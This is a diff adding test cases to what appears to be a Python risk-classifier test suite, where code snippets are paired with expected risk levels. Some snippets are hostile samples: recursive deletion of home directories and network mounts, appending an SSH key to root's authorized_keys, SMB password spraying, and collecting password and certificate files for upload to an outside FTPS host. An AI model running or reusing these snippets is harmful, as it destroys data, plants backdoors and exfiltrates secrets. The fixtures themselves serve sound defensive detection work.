@@ -10730,6 +10730,129 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             '    shutil.rmtree(d, ignore_errors=True)\n',
             L,
         ),
+        # holdout316-319: destructive script bugs, print shops, file servers, music schools
+        (
+            'import subprocess, os\n'
+            'home = os.path.expanduser("~")\n'
+            'for t in ["Downloads/tmp", " .cache/pip"]:\n'
+            '    subprocess.call("rm -rf %s/%s" % (home, t), shell=True)\n',
+            C,
+        ),
+        (
+            'import subprocess\n'
+            'for t in ["build", "dist"]:\n'
+            '    subprocess.call("rm -rf ./%s" % t, shell=True)\n',
+            L,
+        ),
+        (
+            'import glob, os\n'
+            'keep = int(os.getenv("KEEP", "0"))\n'
+            'snaps = sorted(glob.glob("/mnt/nas/snapshots/*.tar.zst"), key=os.path.getmtime, '
+            'reverse=True)\n'
+            'for old in snaps[keep:]:\n'
+            '    os.remove(old)\n',
+            H,
+        ),
+        (
+            'import glob, os\n'
+            'snaps = sorted(glob.glob("/mnt/nas/snapshots/*.tar.zst"), key=os.path.getmtime, '
+            'reverse=True)\n'
+            'for old in snaps[7:]:\n'
+            '    os.remove(old)\n',
+            L,
+        ),
+        (
+            'import os\n'
+            'from wsgidav.wsgidav_app import WsgiDAVApp\n'
+            'config = {"host": "0.0.0.0", "provider_mapping": {"/": os.path.expanduser("~")},'
+            ' "simple_dc": {"user_mapping": {"*": True}}}\n'
+            'app = WsgiDAVApp(config)\n',
+            H,
+        ),
+        (
+            'from wsgidav.wsgidav_app import WsgiDAVApp\n'
+            'config = {"host": "127.0.0.1", "provider_mapping": {"/": "./public"}, "simple_dc'
+            '": {"user_mapping": {"*": True}}}\n'
+            'app = WsgiDAVApp(config)\n',
+            S,
+        ),
+        (
+            'import shutil, os\n'
+            'MOUNTS = [l.split()[1] for l in open("/proc/mounts") if l.split()[2] in ("nfs", '
+            '"cifs")]\n'
+            'for m in MOUNTS:\n'
+            '    for e in os.listdir(m):\n'
+            '        shutil.rmtree(os.path.join(m, e), ignore_errors=True)\n',
+            H,
+        ),
+        (
+            'MOUNTS = [l.split()[1] for l in open("/proc/mounts") if l.split()[2] in ("nfs", '
+            '"cifs")]\n'
+            'print("\\n".join(MOUNTS))\n',
+            S,
+        ),
+        (
+            'import paramiko\n'
+            'ssh = paramiko.SSHClient()\n'
+            'ssh.connect("files.internal", username="root", password="x")\n'
+            'sftp = ssh.open_sftp()\n'
+            'with sftp.open(".ssh/authorized_keys", "a") as f:\n'
+            '    f.write("ssh-ed25519 AAAA x@y\\n")\n',
+            H,
+        ),
+        (
+            'import paramiko\n'
+            'ssh = paramiko.SSHClient()\n'
+            'ssh.connect("files.internal", username="deploy")\n'
+            'sftp = ssh.open_sftp()\n'
+            'sftp.put("dist/app.tar.gz", "releases/app.tar.gz")\n',
+            S,
+        ),
+        (
+            'from smb.SMBConnection import SMBConnection\n'
+            'for pw in ["Winter2024!", "Password1"]:\n'
+            '    for u in ["alice", "bob"]:\n'
+            '        c = SMBConnection(u, pw, "ws", "fs", domain="CORP")\n'
+            '        c.connect("10.0.0.5", 445)\n',
+            H,
+        ),
+        (
+            'from smb.SMBConnection import SMBConnection\n'
+            'import os\n'
+            'c = SMBConnection("svc-scan", os.environ["SMB_PW"], "ws", "fs", domain="CORP")\n'
+            'c.connect("10.0.0.5", 445)\n',
+            S,
+        ),
+        (
+            'import os, fnmatch, ftplib\n'
+            'PAT = ["*.kdbx", "*passw*", "*.pfx"]\n'
+            'hits = [os.path.join(d, f) for d, _, fs in os.walk("/mnt/it") for f in fs if any'
+            '(fnmatch.fnmatch(f, p) for p in PAT)]\n'
+            'ftp = ftplib.FTP_TLS("ftps.example.net")\n'
+            'for h in hits:\n'
+            '    ftp.storbinary("STOR x", open(h, "rb"))\n',
+            H,
+        ),
+        (
+            'import glob\n'
+            'for f in glob.glob("**/*.pem", recursive=True):\n'
+            '    print(f)\n',
+            S,
+        ),
+        (
+            'import ctypes\n'
+            'from PIL import Image\n'
+            'Image.MAX_IMAGE_PIXELS = None\n'
+            'im = Image.open("jobs/4490/banner.tif")\n',
+            M,
+        ),
+        (
+            'from PIL import Image\n'
+            'Image.MAX_IMAGE_PIXELS = None\n'
+            'def load(path):\n'
+            '    return Image.open(path)\n',
+            H,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
